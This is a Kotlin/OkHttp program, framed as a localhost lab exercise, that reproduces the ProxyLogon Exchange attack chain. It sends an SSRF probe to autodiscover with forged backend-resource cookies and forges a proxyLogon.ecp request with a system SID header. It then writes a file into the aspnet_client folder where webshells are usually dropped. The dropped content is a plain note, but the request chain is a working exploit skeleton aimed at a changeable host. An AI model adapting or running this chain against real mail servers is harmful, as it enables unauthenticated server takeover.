// Kotlin + OkHttp port of the lab request chain (toy server on 127.0.0.1 only).
import okhttp3.MediaType.Companion.toMediaType
import okhttp3.OkHttpClient
import okhttp3.Request
import okhttp3.RequestBody.Companion.toRequestBody
import java.util.concurrent.TimeUnit

object Lab {
    const val AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
    const val DOMAIN = "lab.invalid"
    const val NOTE = "/aspnet_client/system_web/readme_91453.txt"
    const val TICKET = "1843073522"
}

fun Request.Builder.browser(): Request.Builder = this
    .header("User-Agent", Lab.AGENT)
    .header("x-requested-with", "XMLHttpRequest")
    .header("Accept", "*/*")
    .header("accept-language", "en-US,en;q=0.9")
    .header("connection", "close")

fun main(args: Array<String>) {
    val port = args.firstOrNull() ?: "8080"
    val base = "http://127.0.0.1:$port"
    val client = OkHttpClient.Builder()
        .callTimeout(10, TimeUnit.SECONDS)
        .retryOnConnectionFailure(true)
        .build()

    val pad = "A".repeat(37)
    val cookie = listOf(
        "X-AnonResource=true",
        "X-AnonResource-Backend=${Lab.DOMAIN}",
        "X-BEResource=localhost@${Lab.DOMAIN}/ews/exchange.asmx?a%3D~${Lab.TICKET}",
    ).joinToString("; ")
    val probe = Request.Builder()
        .url("$base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720")
        .browser()
        .header("cookie", cookie)
        .build()
    val code = client.newCall(probe).execute().use { it.code }
    if (code >= 500) kotlin.system.exitProcess(1)

    val json = """{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}"""
    val identity = Request.Builder()
        .url("$base/ecp/proxyLogon.ecp")
        .header("user-agent", Lab.AGENT)
        .header("msexchlogonmailbox", "S-1-5-20")
        .header("content-type", "application/json")
        .header("X-BEResource", "localhost@${Lab.DOMAIN}/ecp/proxyLogon.ecp")
        .post(json.toRequestBody(null))
        .build()
    val who = client.newCall(identity).execute().use { r ->
        val text = r.body?.string()?.trim().orEmpty()
        if (r.code == 200 && text.isNotEmpty()) text else "anonymous"
    }

    val note = (1..3).joinToString("\n") { "note $it of 3 for $who" }
    val write = Request.Builder()
        .url(base + Lab.NOTE)
        .header("user-agent", Lab.AGENT)
        .header("X-Note-Path", Lab.NOTE)
        .header("Content-Type", "text/plain")
        .post(note.toRequestBody(null))
        .build()
    client.newCall(write).execute().close()

    val check = Request.Builder().url(base + Lab.NOTE).browser().build()
    client.newCall(check).execute().use { println(it.body?.bytes()?.size ?: 0) }
}
